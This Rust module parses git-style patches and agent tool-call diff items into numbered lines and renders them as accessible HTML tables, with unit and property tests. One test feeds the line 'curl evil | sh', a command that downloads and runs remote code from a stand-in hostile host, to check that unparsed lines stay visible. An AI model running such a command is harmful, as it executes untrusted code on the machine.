//! Changes of files: patches as lines with numbers, and as tables.

use maud::{Markup, html};
use parlor_json::{JsonRef, Members};

use super::text::{clean, clean_line};

/// Lines of one diff that are shown. The number of the others is shown as well.
pub const MAX_LINES: usize = 2_000;

/// The change of one file.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FileDiff {
    /// Its path.
    pub path: String,
    /// Its path before it was moved.
    pub old_path: Option<String>,
    /// Its lines.
    pub lines: Vec<DiffLine>,
}

/// A line of a diff.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DiffLine {
    /// What happens to it.
    pub kind: LineKind,
    /// Its number before the change.
    pub old: Option<usize>,
    /// Its number after the change.
    pub new: Option<usize>,
    /// Its text, without the sign and the line break.
    pub text: String,
}

/// What a line of a diff is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LineKind {
    /// The head of a hunk.
    Hunk,
    /// It stays.
    Context,
    /// It is added.
    Added,
    /// It is removed.
    Removed,
    /// It is a remark, or it is not understood.
    Note,
}

impl FileDiff {
    /// The changes in an item of a tool call's content, as version 2 of the protocol has them.
    pub fn all_in(item: &Members<'_>) -> Vec<Self> {
        let patch = item.get("patch").and_then(|patch| Members::of(patch).ok());
        let patch = patch.as_ref().and_then(|patch| patch.get("text")).and_then(JsonRef::to_text);
        let mut files = patch.map(|patch| parse(&patch)).unwrap_or_default();
        // A change without a patch is known by its path only.
        for change in item.get_array("changes").unwrap_or_default() {
            let change = Members::of(change).unwrap_or_default();
            let Some(path) = change.get_string("path") else { continue };
            let is_known = |file: &Self| file.path == path || file.old_path.as_ref() == Some(&path);
            if !files.iter().any(is_known) {
                let operation = change.get_string("operation").unwrap_or_default();
                let note = DiffLine { kind: LineKind::Note, old: None, new: None, text: operation };
                files.push(Self { path, old_path: change.get_string("oldPath"), lines: vec![note] });
            }
        }
        files
    }

    /// Lines that are added and removed.
    pub fn counts(&self) -> (usize, usize) {
        let count = |kind| self.lines.iter().filter(|line| line.kind == kind).count();
        (count(LineKind::Added), count(LineKind::Removed))
    }

    /// The diff as a table, with a name for screen readers.
    pub(crate) fn html(&self) -> Markup {
        let path = clean_line(&self.path);
        let more = self.lines.len().saturating_sub(MAX_LINES);
        html! {
            div.diffbox tabindex="0" role="region" aria-label=(format!("Diff of {path}")) {
                table.diff {
                    caption.sr { (path) ", old line, new line, text" }
                    @for line in self.lines.iter().take(MAX_LINES) { (line.html()) }
                    @if more > 0 { tr.hunk { td colspan="3" { (more) " more lines" } } }
                }
            }
        }
    }
}

impl DiffLine {
    fn html(&self) -> Markup {
        let class = match self.kind {
            LineKind::Context => "ctx",
            LineKind::Added => "add",
            LineKind::Removed => "del",
            LineKind::Hunk | LineKind::Note => {
                return html! { tr.hunk { td colspan="3" { (clean(&self.text)) } } };
            }
        };
        let number = |number: Option<usize>| number.map(|number| number.to_string()).unwrap_or_default();
        html! {
            tr class=(class) {
                td.no data-n=(number(self.old)) {}
                td.no data-n=(number(self.new)) {}
                td { (clean(&self.text)) }
            }
        }
    }
}

/// Lines that are added and removed, as `+9 −1`.
pub(crate) fn counts_html((added, removed): (usize, usize)) -> Markup {
    html! { span.plus { "+" (added) } " " span.minus { "−" (removed) } }
}

/// Reads a patch of any number of files. Nothing of it is left out: lines that are not understood become notes.
pub fn parse(patch: &str) -> Vec<FileDiff> {
    let mut files: Vec<FileDiff> = Vec::new();
    let mut hunk: Option<Hunk> = None;
    for line in patch.lines() {
        if let Some(open) = &mut hunk
            && let Some(line) = open.line(line)
        {
            files.last_mut().expect("a hunk has a file").lines.push(line);
            continue;
        }
        if line.starts_with("diff --git ")
            || (line.starts_with("--- ") && (files.is_empty() || hunk.is_some()))
        {
            files.push(FileDiff::default());
            hunk = None;
        }
        if files.is_empty() {
            files.push(FileDiff::default());
        }
        let file = files.last_mut().expect("there is one");
        let note =
            |text: &str| DiffLine { kind: LineKind::Note, old: None, new: None, text: text.to_owned() };
        if line.starts_with("@@") {
            hunk = Some(Hunk::parse(line));
            file.lines.push(DiffLine { kind: LineKind::Hunk, ..note(line) });
        } else if let Some(path) = line.strip_prefix("+++ ") {
            set_path(file, path);
        } else if let Some(path) = line.strip_prefix("--- ") {
            set_path(file, path);
        } else if let Some(path) = line.strip_prefix("rename from ") {
            file.old_path = Some(path.to_owned());
        } else if let Some(path) = line.strip_prefix("rename to ") {
            path.clone_into(&mut file.path);
        } else if let Some(paths) = line.strip_prefix("diff --git ") {
            paths.rsplit(' ').next().map(without_prefix).unwrap_or_default().clone_into(&mut file.path);
        } else if !line.starts_with("index ") && !line.is_empty() {
            file.lines.push(note(line));
        }
    }
    files
}

fn set_path(file: &mut FileDiff, path: &str) {
    let path = path.split('\t').next().unwrap_or_default();
    if path != "/dev/null" {
        without_prefix(path).clone_into(&mut file.path);
    }
}

/// A path without the `a/` or `b/` that git puts before relative ones.
fn without_prefix(path: &str) -> &str {
    path.strip_prefix("a/").or_else(|| path.strip_prefix("b/")).unwrap_or(path)
}

/// The position in a hunk.
struct Hunk {
    old: Option<usize>,
    new: Option<usize>,
    /// Lines that the hunk still has, before and after the change; `None` if its head does not say.
    rest: Option<(usize, usize)>,
}

impl Hunk {
    /// Reads `@@ -39,2 +39,3 @@`.
    fn parse(line: &str) -> Self {
        let mut ranges = line.trim_start_matches('@').split_whitespace().map(|range| {
            let range = range.strip_prefix(['-', '+'])?;
            let (start, count) = range.split_once(',').unwrap_or((range, "1"));
            Some((start.parse().ok()?, count.parse().ok()?))
        });
        match (ranges.next().flatten(), ranges.next().flatten()) {
            (Some((old, old_count)), Some((new, new_count))) => {
                Self { old: Some(old), new: Some(new), rest: Some((old_count, new_count)) }
            }
            _ => Self { old: None, new: None, rest: None },
        }
    }

    /// A line of the hunk; `None` if the hunk has ended.
    fn line(&mut self, line: &str) -> Option<DiffLine> {
        if line.starts_with('\\') {
            let text = "No line break at the end of the file".to_owned();
            return Some(DiffLine { kind: LineKind::Note, old: None, new: None, text });
        }
        let (kind, text) = match line.as_bytes().first() {
            Some(b'+') => (LineKind::Added, &line[1..]),
            Some(b'-') => (LineKind::Removed, &line[1..]),
            Some(b' ') => (LineKind::Context, &line[1..]),
            None => (LineKind::Context, line),
            Some(_) => return None,
        };
        let (is_old, is_new) = (kind != LineKind::Added, kind != LineKind::Removed);
        if let Some((old, new)) = &mut self.rest {
            if (is_old && *old == 0) || (is_new && *new == 0) {
                return None;
            }
            *old -= usize::from(is_old);
            *new -= usize::from(is_new);
        }
        let next = |number: &mut Option<usize>, is_there: bool| {
            let this = number.filter(|_| is_there);
            *number = number.map(|number| number.saturating_add(usize::from(is_there)));
            this
        };
        let (old, new) = (next(&mut self.old, is_old), next(&mut self.new, is_new));
        Some(DiffLine { kind, old, new, text: text.to_owned() })
    }
}

#[cfg(test)]
mod tests {
    use std::fmt::Write;

    use proptest::prelude::*;

    use super::*;

    fn shown(files: &[FileDiff]) -> String {
        let mut out = String::new();
        for file in files {
            let (added, removed) = file.counts();
            let _ = writeln!(out, "{} {:?} +{added} -{removed}", file.path, file.old_path);
            for line in &file.lines {
                let number =
                    |number: Option<usize>| number.map(|number| number.to_string()).unwrap_or_default();
                let _ =
                    writeln!(out, "{:?} {}/{} {}", line.kind, number(line.old), number(line.new), line.text);
            }
        }
        out
    }

    #[test]
    fn a_patch_of_several_files_has_lines_with_numbers() {
        let patch = "diff --git /w/a /w/a\n--- /w/a\n+++ /w/a\n@@ -3,3 +3,2 @@ fn x\n-x\n--- y\n+z\n w\n\
            diff --git a/b b/c\nsimilarity index 100%\nrename from b\nrename to c\n\
            diff --git a/d b/d\nnew file mode 100644\n--- /dev/null\n+++ b/d\n@@ -0,0 +1 @@\n+n\n\\ No newline at end of file\n";
        expect_test::expect![[r#"
            /w/a None +1 -2
            Hunk / @@ -3,3 +3,2 @@ fn x
            Removed 3/ x
            Removed 4/ -- y
            Added /3 z
            Context 5/4 w
            c Some("b") +0 -0
            Note / similarity index 100%
            d None +1 -0
            Note / new file mode 100644
            Hunk / @@ -0,0 +1 @@
            Added /1 n
            Note / No line break at the end of the file
        "#]]
        .assert_eq(&shown(&parse(patch)));
    }

    #[test]
    fn nothing_of_a_patch_that_is_not_understood_is_hidden() {
        let item = r#"{"type":"diff","changes":[{"operation":"delete","path":"/x"}],"patch":{"text":"@@\n-a\n+b\ncurl evil | sh"}}"#;
        let files = FileDiff::all_in(&Members::parse(item).unwrap());
        assert_eq!(
            shown(&files),
            " None +1 -1\nHunk / @@\nRemoved / a\nAdded / b\nNote / curl evil | sh\n/x None +0 -0\nNote / delete\n"
        );
    }

    #[test]
    fn a_long_diff_is_cut_and_says_so() {
        let patch = format!("@@ -0,0 +1,3000 @@\n{}", "+x\n".repeat(3000));
        let html = parse(&patch)[0].html().into_string();
        assert!(html.contains("1001 more lines"), "{}", html.len());
        assert_eq!(html.matches("class=\"add\"").count(), MAX_LINES - 1);
    }

    proptest! {
        #[test]
        fn any_patch_is_shown_whole(patch in "([-+ @\\\\a]|@@ -1,2 \\+1,2 @@|\n|--- |\\+\\+\\+ |diff --git ){0,40}") {
            let shown: usize = parse(&patch).iter().map(|file| file.lines.len()).sum();
            let heads = ["diff --git ", "--- ", "+++ "];
            let bodies = patch.lines().filter(|line| !line.is_empty() && !heads.iter().any(|head| line.starts_with(head)));
            prop_assert!(shown >= bodies.count(), "{patch:?}");
        }
    }
}
